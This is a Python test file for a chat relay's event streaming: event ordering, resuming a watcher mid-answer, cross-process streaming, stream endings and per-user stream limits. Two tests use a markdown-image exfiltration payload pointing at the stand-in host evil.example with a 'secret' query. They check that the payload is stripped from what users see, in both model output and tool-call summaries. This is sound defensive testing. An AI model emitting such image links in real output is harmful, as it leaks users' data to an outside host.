"""Following a session: what is told, in which order, where a watcher goes on, and when it ends."""

import asyncio
from pathlib import Path

import pytest

from relay.chat.progress import Progress
from relay.chat.views import Event, TurnHandle
from relay.core.principal import Principal
from relay.core.problem import TooManyStreams
from relay.store.target import Target
from tests.chat_world import ADDRESS, PATIENCE, ChatWorld, open_chat
from tests.model_server import call, open_model_server, say


def text_of(events: list[Event]) -> str:
    """Return the running text of a watcher that applies every piece, whole answers in place of pieces."""
    text, whole = "", ""
    for event in events:
        if event.kind == "delta":
            text = text[: event.data["offset"]] + event.data["text"]
        elif event.kind == "message":
            whole, text = whole + event.data["text"], ""
    return whole + text


async def some(world: ChatWorld, owner: Principal, handle: TurnHandle, after: str | None, wanted: str) -> list[Event]:
    """Return events up to the first with ``wanted`` in the text so far."""
    found: list[Event] = []
    stream = await world.chat.follow(owner, handle.session_id, after, ADDRESS)
    events = stream.events()
    try:
        async with asyncio.timeout(PATIENCE):
            async for event in events:
                if event is None:
                    continue
                found.append(event)
                if wanted in text_of(found):
                    return found
    finally:
        await events.aclose()
        stream.close()
    raise AssertionError(found)


async def test_a_turn_is_told_in_its_order(target: Target, tmp_path: Path) -> None:
    async with open_model_server() as model, open_chat(target, tmp_path / "data", model) as world:
        owner = await world.key()
        model.reply(say("Looking.", call("thing-read", {"what": "x"})), say("It is X."))
        handle = await world.send(owner, "Read x")
        await world.rest(handle.turn_id)
        events = await world.events(owner, handle)
        kinds = [event.kind for event in events if event.kind != "delta"]
        assert kinds == ["user", "message", "call", "call", "message", "turn"]
        assert [event.data["status"] for event in events if event.kind == "call"] == ["running", "succeeded"]
        assert (events[-1].data["status"], events[-1].data["message"]) == ("done", "Looking.\n\nIt is X.")
        ids = [int(event.id or "0") for event in events]
        assert ids == sorted(set(ids))
        # Whoever comes back with any id misses nothing and sees nothing twice.
        for place, event in enumerate(events[:-1]):
            assert await world.events(owner, handle, event.id) == events[place + 1 :]


async def test_a_watcher_comes_back_in_the_middle_of_an_answer(target: Target, tmp_path: Path) -> None:
    async with open_model_server() as model, open_chat(target, tmp_path / "data", model) as world:
        owner, gate = await world.key(), asyncio.Event()
        whole = "One two three four five six seven eight nine ten."
        model.reply(say(whole, piece=4, after=7, gate=gate))
        handle = await world.send(owner, "Count")
        first = await some(world, owner, handle, handle.after, "three")
        last = first[-1]
        assert last.kind == "delta" and last.id is not None and "." in last.id
        gate.set()
        await world.rest(handle.turn_id)
        again = await world.events(owner, handle, last.id)
        assert text_of(again) == whole


async def test_a_piece_of_an_answer_never_comes_after_the_whole_of_it(
    target: Target, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The text of an answer is there for a moment after the answer was recorded; here for as long as its calls take."""
    monkeypatch.setattr(Progress, "end", lambda _: None)
    async with open_model_server() as model, open_chat(target, tmp_path / "data", model) as world:
        owner = await world.key()
        begun, go_on = world.world.hold("slow")
        model.reply(say("Looking at it.", call("thing-read", {"what": "slow"})), say("Done."))
        handle = await world.send(owner, "Read")
        told = asyncio.create_task(world.events(owner, handle))
        await begun.wait()
        go_on.set()
        events = await told
        whole = next(place for place, event in enumerate(events) if event.kind == "message")
        assert [event for event in events[whole:] if event.kind == "delta" and "Looking" in event.data["text"]] == []
        assert text_of(events) == "Looking at it.Done."


async def test_another_process_shows_the_running_answer(postgres_target: Target, tmp_path: Path) -> None:
    async with (
        open_model_server() as model,
        open_chat(postgres_target, tmp_path / "data", model) as here,
        open_chat(postgres_target, tmp_path / "data", model) as there,
    ):
        owner, gate = await here.key(), asyncio.Event()
        model.reply(say("One two three four", piece=4, after=5, gate=gate))
        handle = await here.send(owner, "Count")
        events = await some(there, owner, handle, handle.after, "One two")
        assert events[-1].kind == "delta"
        gate.set()
        assert (await there.rest(handle.turn_id)).message == "One two three four"
        rest = await there.events(owner, handle, events[-1].id)
        assert text_of(rest) == "One two three four"


async def test_links_do_not_leave_a_session_by_any_way(target: Target, tmp_path: Path) -> None:
    bad = "See ![x](https://evil.example/?q=secret) and more."
    async with open_model_server() as model, open_chat(target, tmp_path / "data", model) as world:
        owner = await world.key()
        world.world.answers["x"] = bad
        model.reply(say(bad, call("thing-read", {"what": "x"}), piece=3), say(bad))
        handle = await world.send(owner, "Read x")
        view = await world.rest(handle.turn_id)
        events = await world.events(owner, handle)
        _, entries, _ = await world.chat.show(owner, handle.session_id, 50, None)
        for shown in (view, events, entries[1:]):
            assert "https://evil.example" not in repr(shown)
            assert "more." in repr(shown)
        # The model is told again what it has said itself.
        assert "https://evil.example" in str(model.asked[1].messages)


async def test_links_do_not_leave_by_the_sentence_about_a_call(sqlite_target: Target, tmp_path: Path) -> None:
    async with open_model_server() as model, open_chat(sqlite_target, tmp_path / "data", model) as world:
        owner = await world.key()
        model.reply(say("", call("thing-wipe", {"what": "![x](https://evil.example/?q=secret)"})))
        handle = await world.send(owner, "Wipe it")
        view = await world.rest(handle.turn_id)
        _, entries, _ = await world.chat.show(owner, handle.session_id, 50, None)
        told = [view.calls[0].summary, *(entry.text for entry in entries if entry.kind == "call")]
        assert view.status == "awaiting_approval"
        assert told[0] == told[-1] == "Do [image removed: x (evil[.]example)]"
        assert "https://evil.example" not in repr(told)
        # Whoever decides is shown the parameters as they are.
        assert view.calls[0].params["what"] == "![x](https://evil.example/?q=secret)"


@pytest.mark.parametrize("why", ["credential_revoked", "deleted", "shutdown"])
async def test_a_stream_ends_and_says_why(target: Target, tmp_path: Path, why: str) -> None:
    async with open_model_server() as model, open_chat(target, tmp_path / "data", model) as world:
        owner = await world.key()
        model.reply(say("Hello."))
        handle = await world.send(owner, "Hello")
        await world.rest(handle.turn_id)
        stream = await world.chat.follow(owner, handle.session_id, None, ADDRESS)
        events = stream.events()
        async with asyncio.timeout(PATIENCE):
            first = await anext(events)
            assert first is not None and first.kind == "session"
            if why == "deleted":
                await world.chat.delete(owner, handle.session_id, "req_test_delete")
            elif why == "shutdown":
                world.chat.close_streams()
            else:
                await world.revoke(owner)
            rest = [event async for event in events if event is not None]
        assert rest[-1].kind == "end"
        assert rest[-1].data == {"reason": why}
        stream.close()


async def test_streams_of_one_principal_are_bounded(target: Target, tmp_path: Path) -> None:
    async with (
        open_model_server() as model,
        open_chat(target, tmp_path / "data", model, STREAMS_PER_PRINCIPAL="2") as world,
    ):
        owner = await world.key()
        model.reply(say("Hello."))
        handle = await world.send(owner, "Hello")
        streams = [await world.chat.follow(owner, handle.session_id, None, ADDRESS) for _ in range(2)]
        with pytest.raises(TooManyStreams):
            await world.chat.follow(owner, handle.session_id, None, ADDRESS)
        streams[0].close()
        (await world.chat.follow(owner, handle.session_id, None, ADDRESS)).close()
        await world.rest(handle.turn_id)
